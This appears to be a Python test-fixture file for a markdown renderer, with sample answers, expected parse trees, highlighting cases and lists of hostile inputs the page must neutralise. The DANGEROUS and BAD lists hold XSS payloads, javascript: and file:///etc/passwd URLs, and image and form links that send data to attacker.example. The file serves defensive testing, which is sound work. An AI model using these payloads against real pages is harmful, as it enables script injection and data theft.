"""Texts as models write them, and as attackers would, with what the page must make of them."""

from __future__ import annotations

ANSWER = """\
# The fix

The *month-end* branch ignores **leap years**, see `days_in()`:

1. Read [dates.py](clinkai/dates.py)
2. Change it
   - nested
   - two with ~~old~~ text

3. Run:

   ```python
   def days(year: int) -> int:
       \"\"\"Days.

       More.\"\"\"
       return 366  # leap
   ```

| name | size |
|:-----|-----:|
| a \\| b | 1 |
| `c` | 2 | 3 |
| d

> quoted
lazy

- [x] done
- [ ] open

![a picture](https://example.com/x.png) costs $5 and $10, `$HOME`, \\(a_1 + b_2\\), $x^*$ and $y^*$.

$$
E = mc^2
- not a list
$$

[ref] and [later].

[ref]: https://example.com/ref
[later]: https://example.com/later
"""

CHINESE = """\
## 修复

**重点：**这个函数在*闰年*时返回**“错误”**的值，请看[文档](https://docs.example.org/)和https://example.com/a。
第二行，~~删除~~后。

1. 第一步
2. 第二步

| 名称 | 说明 |
|---|---|
| 甲 | **乙** |
"""

SAMPLES = [
    ANSWER, CHINESE, ANSWER.replace("\n", "\r\n"), "one line", "one\ntwo\n\nthree\n\n\n\nfour\n", "```\nopen",
    "~~~\n```\n~~~\nx", "````\n```\n````\ny", "text\n```js\n`a ${1}` // b\n```\nmore\n", "    code\n\n\n    more\n\nend",
    "a | b\n--|--\n1 | 2\n\nafter", "before\n| a | b |\n|---|---|\n- item", "- a\n\n  b\n- c\n\n\n- d", "a\r\nb\r\n\r\n```\r\nx\r\n```",
    "😀 **😀** `😀`\n\n```\n😀\n```", "[a]\n\n[a]: https://x.example\n", "[a]: https://x.example\n[a]\n===\n", "* * *\n- - -\nfoo\n---\nbar\n===",
    "\\[\na_1\n\\]\nb", "$$\nopen\n\nclosed by an empty line", "> - a\n>\n>   b\n> - c\n\n1) x\n2) y\n\n5. z", "- [ ] a\n- [x] b\n- [y] c",
    "```py\n'''a\nb\n'''\n```\n\n```sh\ncat <<E\n'\nE\n```", "| a |\n|---|\n| [x] |\n\n[x]: https://e.example", "*a\n**b\n~~c\n`d\n[e\n![f",
    "```\n\n\n```\n\n```\n```", "<b>bold</b> &amp; &lt; &copy; &nope; &#65; &#x202e;", "line  \nbreak\\\nend  ", "a\tb\n\tc\n>\td\n-\te", "#\n## \n### a ###\n#b",
]


def p(*inner: object) -> list:
    return ["p", "", list(inner)]


def a(address: str, *inner: object) -> list:
    return ["a", address, list(inner)]


def em(*inner: object) -> list:
    return ["em", "", list(inner)]


def strong(*inner: object) -> list:
    return ["strong", "", list(inner)]


def row(tag: str, *cells: list) -> list:
    return ["tr", "", [[tag, "", cell] for cell in cells]]


SHOWN = [
    ("**Bold** and *slanted* and ~~gone~~ and `code`",
     [p(strong("Bold"), " and ", em("slanted"), " and ", ["s", "", ["gone"]], " and ", ["code", "", ["code"]])]),
    ("- a\n- b\n\n```py\nx\n```", [["ul", "", [["li", "", ["a"]], ["li", "", ["b"]]]], ["pre", "py", ["x"]]]),
    ("|a|b|\n|-|:-:|\n|1|2|", [["table", "", [["thead", "", [row("th", ["a"], ["b"])]],
                                             ["tbody", "", [row("td", ["1"], ["2"])]]]]]),
    ("- [x] a\n- [ ] b\n- [x]c", [["ul", "", [["li", "", ["☑ a"]], ["li", "", ["☐ b"]], ["li", "", ["[x]c"]]]]]),
    ("above\na|b\n-|-", [p("above"), ["table", "", [["thead", "", [row("th", ["a"], ["b"])]]]]]),
    ("a|b\n-|-|-", [p("a|b\n-|-|-")]),
    ("a|b\n-|-\n1 \\| 2\n`3 \\| 4`|5|6\n> q", [
        ["table", "", [["thead", "", [row("th", ["a"], ["b"])]], ["tbody", "", [
            row("td", ["1 | 2"], []), row("td", [["code", "", ["3 | 4"]]], ["5 | 6"])]]]],
        ["blockquote", "", [p("q")]]]),
    ("**重点：**内容", [p(strong("重点："), "内容")]),
    ("他说**“好”**了，*（是）*。", [p("他说", strong("“好”"), "了，", em("（是）"), "。")]),
    ("中**（b）**c", [p("中", strong("（b）"), "c")]),
    ("a*\"b\"*c", [p("a*\"b\"*c")]),
    ("见https://example.com/a（b）。", [p("见", a("https://example.com/a", "https://example.com/a"), "（b）。")]),
    ("(https://example.com/a_(b)).", [p("(", a("https://example.com/a_(b)", "https://example.com/a_(b)"), ").")]),
    ("**https://example.com/**", [p(strong(a("https://example.com", "https://example.com/")))]),
    ("[https://a.example](https://b.example)", [p(a("https://b.example", "https://a.example"))]),
    ("xhttps://example.com http:// https://", [p("xhttps://example.com http:// https://")]),
    ("It costs $5 and $10, so $HOME.", [p("It costs $5 and $10, so $HOME.")]),
    ("\\(a_1*b*c_2\\) and \\[x*y*\\] and $$a*b*c$$ and $x^*$, $y^*$",
     [p("\\(a_1*b*c_2\\) and \\[x*y*\\] and $$a*b*c$$ and $x^*$, $y^*$")]),
    ("$a and *b* and c$", [p("$a and ", em("b"), " and c$")]),
    ("$$\nx*y*\n# z\n$$\nb", [["pre", "TeX", ["$$\nx*y*\n# z\n$$"]], p("b")]),
    ("~~a~ b~~ ~c~ ~/d ~/e", [p(["s", "", ["a~ b"]], " ~c~ ~/d ~/e")]),
    ("one  \ntwo\nthree", [p("one", ["br", "", []], "two\nthree")]),
    ("<b>x</b><br><!-- y -->", [p("<b>x</b><br><!-- y -->")]),
    ("[![x](https://a.example/i.png)](https://b.example)",
     [p(a("https://b.example", ["img", "https://a.example/i.png", ["x"]]))]),
    ("[x](docs/a.md) [y](#z)", [p(a("docs/a.md", "x"), " ", a("#z", "y"))]),
    ("a\n\n[r]: https://e.example\n\n[r]", [p("a"), p(a("https://e.example", "r"))]),
    ("[r]\n\n[r]: https://e.example", [p(a("https://e.example", "r"))]),
]

DANGEROUS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>", "<style>*{display:none}</style>", "<base href=//attacker.example>",
    "<form action=https://attacker.example><button>x</button></form>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>]]>", "<?php echo 1 ?>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>`", "```html\n<script>alert(1)</script>\n```", "```<script>\nx\n```", "```\" onload=\"alert(1)\nx\n```", "    <script>x</script>",
    "| <script> |\n|---|\n| <img onerror=x> |", "# <script>x</script>", "- <script>x</script>", "[<script>](https://x.example)",
    "[x](https://x.example \"onmouseover=alert(1)\")", "[x](https://x.example/\" onmouseover=\"alert(1))", "[x](<https://x.example/\"onclick=alert(1)>)",
    "![\" onerror=\"alert(1)](https://x.example/a.png)", "![x](https://attacker.example/?q=secret)", "![x][r]\n\n[r]: https://attacker.example/?q=1",
    "\u202eabc\u2066def\u2069", "a\x00b\x07c\x1b]52;c;eA==\x07\x1b[2J\x7f\x9b31m", "zero\u200bwidth\ufeff tag\U000e0041", "half \ud800 and \udc00",
    "&#0; &#x202e; &#xd800; &#x110000; &#27;", "&rlm;&lrm;x", "[\u202egpj.exe](https://x.example/\u202e)", "`\u202e`", "```\n\u202e\x1b\n```",
    "<https://x.example/\u202e>", "https://x.example/\u202eabc", "[__proto__]: https://x.example\n\n[__proto__] [constructor] [toString]",
    "```__proto__\nx\n```", "```constructor\nx\n```", "```toString\nx = 1\n```", "<https://x.example\">", "[a](https://x.example){onclick=alert(1)}",
]

BAD = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)", "java&#10;script:alert(1)", "java&#9;script:alert(1)", "&#1;javascript:alert(1)", "javascript\\:alert(1)",
    "jav&#x0A;ascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<b>x</b>",
    "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,x", "file:///etc/passwd", "blob:https://x.example/1", "about:blank",
    "ws://x.example", "ftp://x.example", "intent://x", "ms-msdt:/id", "view-source:https://x.example", "//x.example/a",
    "\\\\x.example\\a", "/\\x.example", "https:", "https://", "http://%00/", "javascript%3Aalert(1)", "tel:1", "x:y",
    "https://x.example/" + "a" * 3000,
]

LINKS = [
    *((f"[x]({bad})", []) for bad in BAD), *((f"[x](<{bad}>)", []) for bad in BAD if ">" not in bad),
    *((f"![x]({bad})", []) for bad in BAD), *((f"[x][r]\n\n[r]: {bad}", []) for bad in BAD), *((f"<{bad}>", []) for bad in BAD),
    ("[x](https://x.example/a)", [["https://x.example/a", "x.example"]]),
    ("[x](HTTPS://X.EXAMPLE:8080/a)", [["https://x.example:8080/a", "x.example:8080"]]),
    ("[x](mailto:a@b.example)", [["mailto:a@b.example", "a@b.example"]]),
    ("<a@b.example>", [["mailto:a@b.example", None]]),
    ("<https://x.example/a>", [["https://x.example/a", None]]),
    ("https://x.example/a", [["https://x.example/a", None]]),
    ("https://good.example@evil.example/", [["https://good.example@evil.example/", "evil.example"]]),
    ("[x](https://x y/)", [["https://x/", None]]),
    ("<https://good.example@evil.example/>", [["https://good.example@evil.example/", "evil.example"]]),
    ("[https://good.example](https://evil.example)", [["https://evil.example/", "evil.example"]]),
    ("[x](https://аpple.example/)", [["https://xn--pple-43d.example/", "xn--pple-43d.example"]]),
    ("![x](https://x.example/a.png)", [["https://x.example/a.png", "x.example"]]),
    ("[a [b](https://b.example) c](https://c.example)", [["https://b.example/", "b.example"], ["https://c.example/", None]]),
]

COLOURED = [
    ("python", "@f\ndef g(x: int = 0x1F) -> str:\n    return f\"a{x}\"  # b 'c'",
     ["t @f", "k def", "n 0x1F", "k return", "s f\"a{x}\"", "c # b 'c'"]),
    ("py", "x = '''a\nif # b\n''' or 1", ["s '''a", "s if # b", "s '''", "k or", "n 1"]),
    ("py", "'it''s' \"open\nname1 = a.b", ["s 'it'", "s 's'"]),
    ("js", "const re = /a[\"'/]b/g; // c\nx = a / b / c;", ["k const", "s /a[\"'/]b/g", "c // c"]),
    ("js", "`a ${b} c\nd` + 'e'", ["s `a ${b} c", "s d`", "s 'e'"]),
    ("js", "x = `a ${f(`b`)} c`;\nconst y = 1;", []),
    ("ts", "interface A { readonly b: string }", ["k interface", "k readonly", "k string"]),
    ("json", '{"a": ["b\\"", -1.5e3, true, null]}', ['a "a"', 's "b\\""', "n -1.5e3", "k true", "k null"]),
    ("bash", "# a\nexport A=1; echo \"b $C\" '#d' ${E} x#y", ["c # a", "k export", 's "b $C"', "s '#d'", "a ${E}"]),
    ("sh", "if cat <<E\nfor it's\nE", ["k if"]),
    ("sh", "echo 'open\nif done'", []),
    ("diff", "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n z", ["at --- a", "at +++ b", "at @@ -1 +1 @@", "del -x", "add +y"]),
    ("html", "<p class=\"a\">it's</p><!-- b\nc --><script>if</script>",
     ["t <p", "a class", 's "a"', "t >", "t </p", "t >", "c <!-- b", "c c -->"]),
    ("css", "a:hover { color: #fff; margin: 1px } /* b\nc */",
     ["a color", "n #fff", "a margin", "n 1px", "c /* b", "c c */"]),
    ("md", "# a\n- b `c`\n> d", ["k # a", "t -", "s `c`", "c > d"]),
    ("c", "#include <a.h>\nchar c = '\\n'; /* if\nelse */ int x1;", ["t #include", "k char", "s '\\n'", "c /* if", "c else */", "k int"]),
    ("cpp", "auto s = R\"(a\nint)\";", ["k auto"]),
    ("rust", "fn f<'a>(x: &'a str) -> char { 'b' } // \"c", ["k fn", "t 'a", "t 'a", "s 'b'", 'c // "c']),
    ("rs", "let s = r#\"a\"if\"#;", ["k let", 's r#"a"if"#']),
    ("go", "s := `a\nif`\nvar e error", ["s `a", "s if`", "k var", "t error"]),
    ("java", "@Override public int f() { return 1_000L; }",
     ["t @Override", "k public", "k int", "k return", "n 1_000L"]),
    ("sql", "SELECT a FROM t WHERE b = 'it''s' -- c", ["k SELECT", "k FROM", "k WHERE", "s 'it''s'", "c -- c"]),
    ("yaml", "a-b: true # c\nd:\n  - e: \"f\"\n  - 1.5\ng: it's not: b\nrun: |\n  h: 1",
     ["a a-b", "n true", "c # c", "a d", "a e", 's "f"', "n 1.5", "a g", "a run"]),
    ("toml", "[a.b]\nc = \"d\" # e\nf = 1979-05-27", ["t [a.b]", "a c", 's "d"', "c # e", "a f", "n 1979-05-27"]),
    ("unheard", "if x: 'a'", []),
    ("", "if x: 'a'", []),
    ("py", "x = '" + "a" * 3000 + "'\nif", []),
]
